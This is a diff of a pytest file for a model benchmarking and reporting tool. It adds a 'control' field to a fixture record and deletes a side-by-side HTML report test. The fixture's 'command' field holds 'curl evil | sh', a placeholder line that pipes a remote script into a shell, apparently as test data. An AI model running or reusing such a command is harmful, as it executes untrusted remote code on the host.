@@ -71,6 +71,7 @@ def shrunk_record() -> dict[str, Any]:
         "metric": "accuracy",
         "models": [full, {**full, "name": "shrunk", "score": 0.85, "prefill_speedup": [1.5, 1.4, 1.6]}],
         "difference": {"score": -0.05, "low": -0.1, "high": 0.01},
+        "control": None,
         "problem": {"model": "VLM", "task": "answering", "checkpoint": "/models/big"},
         "command": "curl evil | sh",
         "versions": VERSIONS,
@@ -176,14 +177,6 @@ def test_report_of_compare(runs: Path):
     write_json(record, {**compared_record(), "lines": []})
     with pytest.raises(FileNotFoundError):
         run_report(runs / "6")
-
-
-def test_reports_side_by_side(runs: Path, capsys: pytest.CaptureFixture[str]):
-    assert PROGRAM.run(["report", "1", "2", "3", "4", "5", "with", f"runs_dir={runs}"]) == 0
-    page = (runs / "report_1_2_3_4_5.html").read_text()
-    assert page.count("<article") == 5
-    assert page.count("<h3>Method by method</h3>") == 1
-    assert "report_1_2_3_4_5.html (" in capsys.readouterr().out
 
 
 @pytest.mark.parametrize(("name", "message"), [("other.json", "its run has not finished"), ("shrink.json", "damaged")])
